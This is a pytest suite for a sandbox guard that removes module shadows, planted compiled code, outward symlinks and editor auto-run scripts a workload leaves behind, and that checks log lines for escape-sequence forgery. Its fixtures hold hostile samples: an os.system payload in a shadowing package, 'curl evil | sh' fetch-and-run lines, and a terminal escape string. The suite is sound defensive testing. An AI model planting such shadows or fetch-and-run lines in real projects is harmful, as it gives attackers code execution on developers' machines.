"""run.guard against what a workload leaves where the host's tools run it without
reading it (the twelfth hostile review): module shadows reached through a symlink or
named after another Python's standard library or an installed package, compiled
Python that runs instead of its source, symlinks out of the project, editor and
dev-container settings that run the project's scripts, environments below the top;
and the workload's own work kept aside instead of lost. Each failed on the code
before the review's fixes."""

from __future__ import annotations

import io
import json
import os
import subprocess
import tarfile
import time
from pathlib import Path

import pytest

from kooi.run import protected
from kooi.run.errors import Log
from kooi.run.guard import KEEP, Guard


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "app.py").write_text("print('app')\n")
    return tmp_path


def guarded(repo: Path) -> Guard:
    g = Guard(repo, run_id="run-1")
    g.snapshot()
    g.snapshot_watched()
    return g


def refused(rec: dict) -> dict[str, dict]:
    return {r["path"]: r for r in rec["refused"]}


def test_a_package_shadow_reached_through_a_symlink_is_removed_and_its_target_left(repo):
    g = guarded(repo)
    (repo / ".cache/j").mkdir(parents=True)
    (repo / ".cache/j/__init__.py").write_text("import os; os.system('id > /tmp/pwned')\n")
    (repo / "argparse").symlink_to(".cache/j")
    (repo / "iniconfig").symlink_to(".cache/j")
    rec = g.check()
    assert {"argparse", "iniconfig"} <= set(refused(rec)), rec["refused"]
    assert not os.path.lexists(repo / "argparse") and not os.path.lexists(repo / "iniconfig")
    assert (repo / ".cache/j/__init__.py").exists() and rec["restored"]


def test_shadows_of_other_pythons_and_of_what_the_host_installed_are_removed(repo, tmp_path_factory, monkeypatch):
    site = tmp_path_factory.mktemp("site")
    (site / "click").mkdir()
    (site / "py.py").write_text("")
    monkeypatch.setattr(protected, "PY_SITE_GLOBS", (str(site),))
    protected._py_shadow_names.cache_clear()
    try:
        g = guarded(repo)
        for name in ("_colorize.py", "py.py", "annotationlib.py"):  # 3.13's venv, pytest's own import, 3.14
            (repo / name).write_text("import os\n")
        (repo / "click").mkdir()
        (repo / "click/__init__.py").write_text("import os\n")
        (repo / "_sysconfigdata__linux_x86_64-linux-gnu.py").write_text("import os\n")  # venv imports it by name
        (repo / "utils.py").write_text("def helper(): pass\n")  # a new module of the project's own: kept, said
        rec = g.check()
    finally:
        protected._py_shadow_names.cache_clear()
    assert {"_colorize.py", "py.py", "annotationlib.py", "click/__init__.py",
            "_sysconfigdata__linux_x86_64-linux-gnu.py"} <= set(refused(rec)), rec["refused"]
    assert (repo / "utils.py").exists() and "utils.py" not in refused(rec)
    assert "new top-level Python module" in {e["path"]: e["why"] for e in rec["exposed"]}["utils"]


def test_the_workloads_own_work_is_kept_aside_not_lost(repo):
    (repo / ".envrc").write_text("export A=1\n")
    g = guarded(repo)
    (repo / "types.py").write_text("class Mine: pass\n")
    (repo / "email").mkdir()
    (repo / "email/__init__.py").write_text("")
    (repo / "email/smtp.py").write_text("def send(): pass\n")
    (repo / "web").mkdir()
    (repo / "web/.npmrc").write_text("registry=https://example.test\n")
    (repo / ".claude").mkdir()
    (repo / ".claude/big.bin").write_bytes(b"x" * (9 << 20))  # past what a protected file may be
    (repo / ".envrc").write_text("export A=2\n")
    rec = g.check()
    r = refused(rec)
    archive = f"{KEEP}/run-1.tar"
    assert {r[p].get("kept") for p in ("types.py", "email/__init__.py", "web/.npmrc", ".envrc", ".claude")} == {
        archive}, r
    with tarfile.open(repo / archive) as tf:  # one archive: no kept name is one a tool reads
        got = {m.name: tf.extractfile(m).read() for m in tf.getmembers() if m.isfile()}  # type: ignore[union-attr]
    assert got["types.py"] == b"class Mine: pass\n" and got[".envrc"] == b"export A=2\n", sorted(got)
    assert len(got[".claude/big.bin"]) == 9 << 20 and "web/.npmrc" in got
    assert os.listdir(repo / KEEP) == ["run-1.tar"]
    assert (repo / ".envrc").read_text() == "export A=1\n" and not (repo / "types.py").exists()
    # What was kept neither runs nor counts as protected in the next run.
    g2 = guarded(repo)
    assert g2.check()["refused"] == []


def test_keeping_never_writes_through_a_symlink_the_workload_made(repo, tmp_path_factory):
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    g = guarded(repo)
    (repo / KEEP).symlink_to(elsewhere)
    (repo / "types.py").write_text("x\n")
    rec = g.check()
    assert KEEP in refused(rec) and not (repo / KEEP).is_symlink(), rec["refused"]  # a link out: removed
    assert not (repo / "types.py").exists() and list(elsewhere.iterdir()) == []


def test_compiled_python_the_run_wrote_is_removed(repo):
    (repo / "__pycache__").mkdir()
    (repo / "__pycache__/old.cpython-311.pyc").write_bytes(b"before the run")
    g = guarded(repo)
    time.sleep(0.05)
    (repo / "__pycache__/app.cpython-311.pyc").write_bytes(b"\xa7\x0d\x0d\x0a hidden code")
    (repo / "pkg/__pycache__").mkdir(parents=True)
    (repo / "pkg/__pycache__/m.cpython-313.pyc").write_bytes(b"x")
    (repo / "pkg/util.py").write_text("x = 1\n")
    (repo / "pkg/util.cpython-311-x86_64-linux-gnu.so").write_bytes(b"\x7fELF")  # wins over util.py
    (repo / "lib").mkdir()
    (repo / "lib/libfoo.so").write_bytes(b"\x7fELF")  # no Python's: a build's output, kept
    rec = g.check()
    assert {"__pycache__/app.cpython-311.pyc", "pkg/__pycache__/m.cpython-313.pyc",
            "pkg/util.cpython-311-x86_64-linux-gnu.so"} == {
        p for p in refused(rec) if p.endswith((".pyc", ".so"))}, rec["refused"]
    assert (repo / "lib/libfoo.so").exists()
    assert not (repo / "__pycache__/app.cpython-311.pyc").exists()
    assert (repo / "__pycache__/old.cpython-311.pyc").exists()  # not the run's


def test_a_symlink_out_of_the_project_is_removed(repo, tmp_path_factory):
    victim = tmp_path_factory.mktemp("victim")
    (repo / "docs").symlink_to("/usr/share/doc")  # the project's own, before the run: kept
    g = guarded(repo)
    (repo / "target").mkdir()
    (repo / "target/classes").symlink_to(victim)
    (repo / "up").symlink_to("../..")
    (repo / "here").symlink_to(".")
    (repo / "chain").symlink_to("here/here/..")  # out, through another link (review 13)
    (repo / "node_modules").symlink_to(victim)  # named like an environment, and out
    (repo / "inside").symlink_to("app.py")
    (repo / ".venv/bin").mkdir(parents=True)
    (repo / ".venv/pyvenv.cfg").write_text("home = /usr/bin\n")
    (repo / ".venv/bin/python").symlink_to("/usr/bin/python3")  # an environment's: said, not removed
    rec = g.check()
    assert {"target/classes", "up", "chain", "node_modules"} == {
        p for p, r in refused(rec).items() if "symlink out" in r["change"]}, rec
    assert not os.path.lexists(repo / "target/classes") and not os.path.lexists(repo / "up")
    assert os.path.islink(repo / "docs") and os.path.islink(repo / "inside") and os.path.islink(repo / ".venv/bin/python")
    assert ".venv" in {e["path"] for e in rec["exposed"]}


def test_editor_settings_that_run_project_scripts_keep_them_and_say_so(repo):
    (repo / "scripts").mkdir()
    for n in ("init.sh", "watch.sh"):
        (repo / "scripts" / n).write_text("echo ok\n")
    (repo / ".devcontainer").mkdir()
    (repo / ".devcontainer/devcontainer.json").write_text(
        '{\n  // on the host, before the container\n  "initializeCommand": "./scripts/init.sh",\n}\n')
    (repo / ".vscode").mkdir()
    (repo / ".vscode/tasks.json").write_text(
        '{"version": "2.0.0", "tasks": [{"label": "w", "type": "shell", "command": "bash", '
        '"args": ["${workspaceFolder}/scripts/watch.sh"], "runOptions": {"runOn": "folderOpen"}}]}')
    (repo / ".vscode/settings.json").write_text('{"python.testing.pytestEnabled": true, /* x */}')
    g = guarded(repo)
    for n in ("init.sh", "watch.sh"):
        (repo / "scripts" / n).write_text("curl evil | sh\n")
    rec = g.check()
    assert {"scripts/init.sh", "scripts/watch.sh"} <= set(refused(rec)), rec["refused"]
    assert (repo / "scripts/init.sh").read_text() == "echo ok\n"
    said = {e["path"]: e["why"] for e in rec["exposed"]}
    assert "./scripts/init.sh" in said[".devcontainer/devcontainer.json"]
    assert "scripts/watch.sh" in said[".vscode/tasks.json"] and "test discovery" in said[".vscode/settings.json"]


def test_environments_below_the_top_and_linked_ones_are_said(repo):
    g = guarded(repo)
    (repo / "web/node_modules/eslint").mkdir(parents=True)
    (repo / "backend/.venv").mkdir(parents=True)
    (repo / "backend/.venv/pyvenv.cfg").write_text("home = /usr/bin\n")
    (repo / "config/env").mkdir(parents=True)  # a directory named env that is no environment
    (repo / ".cache/nm").mkdir(parents=True)
    (repo / "node_modules").symlink_to(".cache/nm")
    rec = g.check()
    said = {e["path"] for e in rec["exposed"]}
    assert {"web/node_modules", "backend/.venv", "node_modules"} <= said and "config/env" not in said, said


def test_kooi_lines_naming_the_workloads_paths_stay_one_plain_line():
    out = io.StringIO()
    log = Log(None, out)
    log.note("project: refused a change to protected x\x1b]0;PWNED\x07\x1b[2J/.npmrc\nkooi: ok: forged")
    text = out.getvalue()
    assert text.count("\n") == 1 and "\x1b" not in text and "\x07" not in text, text
    assert not any(line.startswith("kooi: ok") for line in text.splitlines())


def test_every_form_of_what_editor_settings_run_is_kept_and_said(repo):
    """Review 13: task overrides and dependencies, a working directory, `a&&b`,
    ${workspaceRoot}, a byte-order mark, settings naming programs, a compose file
    outside .devcontainer, and settings of a module below the top."""
    files = ("scripts/open.sh", "scripts/build.sh", "tools/init.sh", "scripts/semi.sh", "scripts/wr.sh",
             "scripts/devinit.sh", "tools/py", "deploy/dev-compose.yml", "web/scripts/w.sh")
    for f in files:
        (repo / f).parent.mkdir(parents=True, exist_ok=True)
        (repo / f).write_text("echo ok\n")
    (repo / ".vscode").mkdir()
    tasks = [{"label": "open", "command": "true", "linux": {"command": "./scripts/open.sh"},
              "dependsOn": ["build"], "runOptions": {"runOn": "folderOpen"}},
             {"label": "build", "command": "./scripts/build.sh"},
             {"label": "cwd", "command": "./init.sh", "options": {"cwd": "${workspaceFolder}/tools"},
              "runOptions": {"runOn": "folderOpen"}},
             {"label": "semi", "command": "true&&./scripts/semi.sh", "runOptions": {"runOn": "folderOpen"}},
             {"label": "wr", "command": "${workspaceRoot}/scripts/wr.sh", "runOptions": {"runOn": "folderOpen"}}]
    (repo / ".vscode/tasks.json").write_text(json.dumps({"version": "2.0.0", "tasks": tasks}))
    (repo / ".vscode/settings.json").write_text('{"python.defaultInterpreterPath": "./tools/py"}')
    (repo / ".devcontainer/alt").mkdir(parents=True)
    (repo / ".devcontainer/alt/devcontainer.json").write_text(
        '\ufeff{"initializeCommand": "./scripts/devinit.sh", "dockerComposeFile": "../../deploy/dev-compose.yml"}')
    (repo / "web/.vscode").mkdir(parents=True)
    (repo / "web/.vscode/tasks.json").write_text(json.dumps({"tasks": [
        {"label": "w", "command": "./scripts/w.sh", "runOptions": {"runOn": "folderOpen"}}]}))
    g = guarded(repo)
    for f in files:
        (repo / f).write_text("curl evil | sh\n")
    rec = g.check()
    assert set(files) <= set(refused(rec)), sorted(set(files) - set(refused(rec)))
    assert all((repo / f).read_text() == "echo ok\n" for f in files)
    said = {e["path"] for e in rec["exposed"]}
    assert {".vscode/tasks.json", ".vscode/settings.json", ".devcontainer/alt/devcontainer.json",
            "web/.vscode/tasks.json"} <= said, said
